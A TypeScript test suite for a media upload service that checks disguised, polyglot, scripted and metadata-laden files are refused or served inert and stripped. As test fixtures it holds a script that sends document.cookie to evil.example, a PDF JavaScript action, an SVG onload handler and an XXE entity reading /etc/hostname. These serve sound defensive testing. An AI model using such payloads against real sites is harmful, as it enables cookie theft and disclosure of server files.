import { describe, expect, it } from 'vitest';
import { describeRefusal, type UploadKind, type UploadRefusal } from '#contract/uploads.ts';
import { drainTasks } from '#server/queue/worker.ts';
import { effort, seed } from '#tests/harness/effort.ts';
import { canaryWord } from '#tests/harness/privacy/canaries.ts';
import { useTestApp } from '#tests/harness/test-app.ts';
import { Dice } from '#tests/modules/search-crowd.ts';
import { HTML, PDF, TINY_PNG, zipOf } from './sample-files.ts';
import { makeHeic } from './sample-heic.ts';
import {
  makePhoto,
  makePixelBomb,
  makeTaggedHeic,
  makeTaggedPhoto,
  makeVideo,
  withPngText,
} from './sample-media.ts';
import { idOf, type TusClient } from './tus-client.ts';
import { insertSender, type Member } from './uploads-people.ts';
import { fetchFile, stateOf } from './uploads-transfers.ts';
import { useWeb } from './web.ts';

const world = useTestApp();
const web = useWeb(world);

const SCRIPT = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
const SEED = seed('HOSTILE_SEED');
/**
 * With the others here three hundred files, two or three minutes in the proofs: each is prepared by a process of its own, which
 * is part of the defense.
 */
const MUTATED = effort('HOSTILE_MUTATED', { gate: 8, proofs: 270 });

type File = readonly [kind: UploadKind, fileName: string, bytes: Buffer];
type Sender = { person: Member; client: TusClient };

async function start(): Promise<Sender> {
  const { client, ...person } = await insertSender(world, web);
  return { person, client };
}

/** Sends a file, has it prepared, and answers what became of it with all that is served of it. */
async function send({ person, client }: Sender, [kind, fileName, bytes]: File) {
  const path = await client.open({ kind, fileName, byteSize: bytes.length });
  await client.patch(path, 0, bytes);
  await drainTasks(world.app, { retryAtOnce: true });
  const upload = await stateOf(person, idOf(path));
  const { sources = [], downloadUrl } = upload.media ?? {};
  const urls = [...sources.map(({ url }) => url), ...(downloadUrl === undefined ? [] : [downloadUrl])];
  return { upload, served: await Promise.all(urls.map((url) => fetchFile(web, url))) };
}

const INERT = ['image/avif', 'image/webp', 'video/mp4', 'application/pdf'];

type Outcome = Awaited<ReturnType<typeof send>>;

/** Whatever was taken is served as one of four types that run nothing, in a sandbox; a PDF is only saved. */
function expectInert({ served }: Outcome): void {
  for (const { status, headers, bytes } of served) {
    const type = headers.get('content-type') ?? '';
    expect(status).toBe(200);
    expect(INERT).toContain(type);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    const saved = type === 'application/pdf' ? 'attachment' : 'inline';
    expect(headers.get('content-disposition')).toMatch(new RegExp(`^${saved};`));
    if (type !== 'application/pdf') expect(bytes.includes('<script')).toBe(false);
  }
}

const svg = (inside: string, size = 'width="40" height="30"') =>
  Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" ${size}>${inside}</svg>`);

const HEIC = makeHeic({ width: 64, height: 48, brightnessAt: (x, y) => 16 + ((x + y) % 200) });
const GIF = Buffer.from('474946383961010001000000002c00000000010001000002024401003b', 'hex');

describe('a file that is not what it says', () => {
  const cases: readonly (readonly [string, UploadRefusal, File])[] = [
    ['HTML as a JPG', 'file_type_refused', ['photo', 'a.jpg', HTML]],
    ['JavaScript as a PNG', 'file_type_refused', ['photo', 'a.png', Buffer.from('alert(1)//'.repeat(50))]],
    [
      'a GIF with an archive behind it',
      'file_type_refused',
      ['photo', 'a.jpg', Buffer.concat([GIF, zipOf('a.class')])],
    ],
    ['a program as a video', 'file_type_refused', ['video', 'a.mp4', Buffer.from('MZ'.padEnd(400, '\0'))]],
    ['a PDF as a photo', 'file_type_refused', ['photo', 'a.png', PDF]],
    ['a photo as a video', 'file_type_refused', ['video', 'a.mp4', TINY_PNG]],
    ['SVG as a photo', 'file_type_refused', ['photo', 'a.png', svg(SCRIPT)]],
    ['SVG as a document', 'file_type_refused', ['document', 'a.pdf', svg(SCRIPT)]],
    ['HTML with a PDF inside', 'file_type_refused', ['document', 'a.pdf', Buffer.concat([HTML, PDF])]],
    ['an archive as a document', 'file_type_refused', ['document', 'a.pdf', zipOf('a.txt')]],
    ['the first bytes of a JPG and then HTML', 'file_damaged', ['photo', 'a.jpg', jpegHeadWith(SCRIPT)]],
    ['a PNG that ends early', 'file_damaged', ['photo', 'a.png', TINY_PNG.subarray(0, 45)]],
    ['a PDF that ends early', 'file_damaged', ['document', 'a.pdf', PDF.subarray(0, 20)]],
    [
      'a video without a movie',
      'file_damaged',
      ['video', 'a.mp4', Buffer.from('00000018667479706d70343200000000', 'hex')],
    ],
    ['HEIC that ends early', 'file_damaged', ['photo', 'a.heic', HEIC.subarray(0, 900)]],
    [
      'a PNG of 50,000 by 50,000 pixels',
      'picture_too_large',
      ['photo', 'a.png', makePixelBomb(50_000, 50_000)],
    ],
    [
      'a drawing of 100,000 by 100,000 pixels',
      'picture_too_large',
      ['logo', 'a.svg', svg('<rect/>', 'width="100000" height="100000"')],
    ],
  ];

  it.each(cases)('is refused: %s', async (_name, refusal, file) => {
    const { upload, served } = await send(await start(), file);
    expect(upload).toMatchObject({ status: 'refused', refusal, media: null });
    expect(served).toEqual([]);
    expect(await world.app.files.incoming.receivedBytes(upload.id)).toBeNull();
    const [kind, fileName] = file;
    expect(describeRefusal(refusal, { kind, fileName })).toContain(fileName);
  });

  it('is refused when it is longer than five minutes', async () => {
    const { upload } = await send(await start(), ['video', 'a.mp4', await makeVideo({ seconds: 301 })]);
    expect(upload).toMatchObject({ status: 'refused', refusal: 'video_too_long' });
  });
});

function scriptedPdf(): Buffer {
  const script = Buffer.from(`1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj ${SCRIPT}`);
  return Buffer.concat([PDF.subarray(0, 9), script, PDF.subarray(9)]);
}

function jpegHeadWith(text: string): Buffer {
  return Buffer.concat([
    Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
    Buffer.from(text.repeat(20)),
  ]);
}

describe('a file with something else in it', () => {
  const behind = async (bytes: Promise<Buffer>) =>
    Buffer.concat([await bytes, Buffer.from(SCRIPT), zipOf('a.class')]);
  const cases: readonly (readonly [string, () => Promise<File>])[] = [
    [
      'a JPG with HTML and an archive behind it',
      async () => ['photo', 'a.jpg', await behind(makeTaggedPhoto('jpeg', SCRIPT))],
    ],
    [
      'a PNG with a script in a text',
      async () => ['photo', 'a.png', withPngText(await makePhoto(8, 8), SCRIPT)],
    ],
    ['a picture as a document', async () => ['document', 'a.png', await behind(makePhoto(8, 8))]],
    ['a PDF with a script', () => Promise.resolve(['document', 'a.pdf', scriptedPdf()])],
    [
      'a logo with a script and a handler',
      () =>
        Promise.resolve(['logo', 'a.svg', svg(`${SCRIPT}<rect width="9" height="9" onload="alert(1)"/>`)]),
    ],
  ];

  it.each(cases)('is served as nothing that runs: %s', async (_name, make) => {
    const outcome = await send(await start(), await make());
    expect(outcome.upload.status).toBe('ready');
    expect(outcome.served.length).toBeGreaterThan(0);
    expectInert(outcome);
  });

  it('is looked at in one pass: thousands of comments, as a picture and as a drawing that never comes', async () => {
    const comments = (count: number, rest: string) => Buffer.from('<!---->'.repeat(count) + rest);
    // To try each way to part forty of them would take days, in which the process answers nothing.
    const sender = await start();
    for (const [kind, name] of [
      ['photo', 'a.png'],
      ['logo', 'a.svg'],
    ] as const) {
      const { upload } = await send(sender, [kind, name, comments(1_000, 'x')]);
      expect(upload.status).toBe('refused');
    }
    const drawing =
      '<!DOCTYPE svg [<!ENTITY x "y">]> <!-- > -->\n<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>';
    const { upload } = await send(sender, [
      'logo',
      'a.svg',
      Buffer.from(`<?xml version="1.0"?>\n<!---->${drawing}`),
    ]);
    expect(upload.status).toBe('ready');
  });

  it('reads no file of ours and no address: a drawing that names them', async () => {
    const secret = canaryWord();
    const entity = `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>`;
    const drawing = Buffer.from(
      `<?xml version="1.0"?>${entity}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ` +
        `width="40" height="30"><title>${secret}</title><text y="20">&x;</text>` +
        `<image xlink:href="file:///etc/hostname" width="9" height="9"/>` +
        `<image xlink:href="${world.app.config.web.publicUrl}/never" width="9" height="9"/></svg>`,
    );
    const outcome = await send(await start(), ['logo', 'a.svg', drawing]);
    expectInert(outcome);
    for (const { bytes } of outcome.served) expect(bytes.includes(secret)).toBe(false);
    expect(web.asked.some(({ request }) => request.url.endsWith('/never'))).toBe(false);
  });
});

describe('where and when something was taken', () => {
  const cases: readonly (readonly [string, (canary: string) => Promise<File>])[] = [
    ['a JPG', async (canary) => ['photo', 'a.jpg', await makeTaggedPhoto('jpeg', canary)]],
    [
      'a PNG',
      async (canary) => ['photo', 'a.png', withPngText(await makeTaggedPhoto('png', canary), canary)],
    ],
    ['a WebP', async (canary) => ['photo', 'a.webp', await makeTaggedPhoto('webp', canary)]],
    ['a HEIC', async (canary) => ['photo', 'a.heic', await makeTaggedHeic(canary)]],
    [
      'a picture as a document',
      async (canary) => ['document', 'a.jpg', await makeTaggedPhoto('jpeg', canary)],
    ],
    ['an MP4', async (canary) => ['video', 'a.mp4', await makeVideo({ canary })]],
    ['a MOV', async (canary) => ['video', 'a.mov', await makeVideo({ format: 'mov', canary })]],
  ];

  it.each(cases)('is in nothing that is served of %s', async (_name, make) => {
    const canary = canaryWord();
    const file = await make(canary);
    expect(file[2].includes(canary)).toBe(true);
    const outcome = await send(await start(), file);
    expect(outcome.upload.status).toBe('ready');
    expectInert(outcome);
    for (const { bytes } of outcome.served) {
      for (const trace of [canary, 'Exif', 'xmpmeta', 'GPSLatitude', '\u00a9xyz', 'location.ISO6709']) {
        expect(bytes.includes(Buffer.from(trace, 'latin1'))).toBe(false);
      }
    }
    expect(JSON.stringify(outcome.upload.media)).not.toContain(canary);
  });

  it('does not turn a picture: it is upright afterwards', async () => {
    const sender = await start();
    const jpeg = await send(sender, ['photo', 'a.jpg', await makeTaggedPhoto('jpeg', 'x')]);
    const heic = await send(sender, ['photo', 'a.heic', await makeTaggedHeic('x')]);
    for (const { upload } of [jpeg, heic]) expect(upload.media).toMatchObject({ width: 48, height: 64 });
  });

  it('is not what a video is known by: its length and its size are', async () => {
    const { upload } = await send(await start(), [
      'video',
      'a.mov',
      await makeVideo({ format: 'mov', seconds: 4 }),
    ]);
    expect(upload.media).toMatchObject({ width: 320, height: 180, durationSeconds: 4 });
  });
});

type Base = readonly [kind: UploadKind, fileName: string, make: (canary: string) => Promise<Buffer>];
/** What phones and people send, each with words that must not be served. */
const BASES: readonly Base[] = [
  ['photo', 'a.jpg', (canary) => makeTaggedPhoto('jpeg', canary)],
  ['photo', 'a.png', async (canary) => withPngText(await makeTaggedPhoto('png', canary), canary)],
  ['photo', 'a.webp', (canary) => makeTaggedPhoto('webp', canary)],
  ['photo', 'a.heic', makeTaggedHeic],
  ['video', 'a.mp4', (canary) => makeVideo({ canary })],
  ['video', 'a.mov', (canary) => makeVideo({ format: 'mov', canary })],
  [
    'logo',
    'a.svg',
    (canary) => Promise.resolve(svg(`<title>${canary}</title>${SCRIPT}<rect width="9" height="9"/>`)),
  ],
  ['document', 'a.pdf', () => Promise.resolve(scriptedPdf())],
];

/** What is done to a file: other bytes, an end that is missing, parts that are moved, and another file behind it. */
const DAMAGE: readonly ((bytes: Buffer, dice: Dice, other: Buffer) => Buffer)[] = [
  (bytes, dice) => {
    const changed = Buffer.from(bytes);
    for (let change = 0; change < 5; change += 1) changed[dice.below(bytes.length)] = dice.below(256);
    return changed;
  },
  (bytes, dice) => {
    // Sizes and offsets of the first boxes and chunks.
    const changed = Buffer.from(bytes);
    changed.writeUInt32BE(dice.below(0x7fffffff), dice.below(Math.min(bytes.length - 4, 120)));
    return changed;
  },
  (bytes, dice) => bytes.subarray(0, 1 + dice.below(bytes.length - 1)),
  (bytes, dice) => {
    const [from, length] = [dice.below(bytes.length), dice.below(400)];
    const part = bytes.subarray(from, from + length);
    return Buffer.concat([bytes.subarray(0, from), part, part, bytes.subarray(from + length)]);
  },
  (bytes, _dice, other) => Buffer.concat([bytes, Buffer.from(SCRIPT), zipOf('a.class'), other]),
];

describe(`files that were damaged at random (${String(MUTATED)})`, () => {
  it('are taken or refused, and what is taken is served as nothing that runs, without what it must not say', async () => {
    const sender = await start();
    const canary = canaryWord();
    const bases = await Promise.all(
      BASES.map(async ([kind, name, make]) => [kind, name, await make(canary)] as const),
    );
    const dice = new Dice(SEED);
    const became = { ready: 0, refused: 0 };
    for (let round = 0; round < MUTATED; round += 1) {
      const [kind, fileName, bytes] = bases[round % bases.length] ?? expect.fail();
      const damage = DAMAGE[Math.floor(round / bases.length) % DAMAGE.length] ?? expect.fail();
      const outcome = await send(sender, [kind, fileName, damage(bytes, dice, dice.pick(bases)[2])]);
      const { status } = outcome.upload;
      if (status !== 'ready' && status !== 'refused') expect.fail(`It is ${status}.`);
      became[status] += 1;
      expectInert(outcome);
      // A PDF is only ever saved, as it came.
      const shown = outcome.served.filter(({ headers }) => headers.get('content-type') !== 'application/pdf');
      for (const { bytes: served } of shown)
        expect(served.includes(canary), `round ${String(round)}: ${fileName}`).toBe(false);
      await sender.person.call.uploads.remove({ id: outcome.upload.id });
    }
    expect(became.refused).toBeGreaterThan(0);
    expect(became.ready).toBeGreaterThan(0);
  });
});
